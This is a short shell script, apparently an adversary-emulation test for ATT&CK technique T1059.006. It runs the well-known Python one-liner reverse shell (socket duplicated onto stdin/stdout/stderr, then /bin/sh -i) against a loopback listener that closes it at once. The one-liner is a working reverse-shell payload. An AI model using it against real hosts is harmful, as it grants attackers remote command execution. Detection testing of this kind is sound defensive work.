#!/bin/sh
# T1059.006, the classic python one-liner reverse shell (PayloadsAllTheThings, pentestmonkey):
# the socket dup'ed onto stdio and /bin/sh -i run on it, against a loopback listener.
set -e
port=$((33000 + $$ % 10000))
ready=$(mktemp -u)
/usr/bin/python3 - "$port" "$ready" <<'PY' &
import socket, sys, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(1); s.settimeout(10)
open(sys.argv[2], "w").close()
c, _ = s.accept(); c.sendall(b"exit\n"); time.sleep(1); c.close()
PY
listener=$!
i=0; until [ -e "$ready" ] || [ $i -ge 150 ]; do sleep 0.1; i=$((i + 1)); done
python3 -c "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('127.0.0.1',$port));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(['/bin/sh','-i'])" 2>/dev/null || true
wait "$listener" || true
rm -f "$ready"
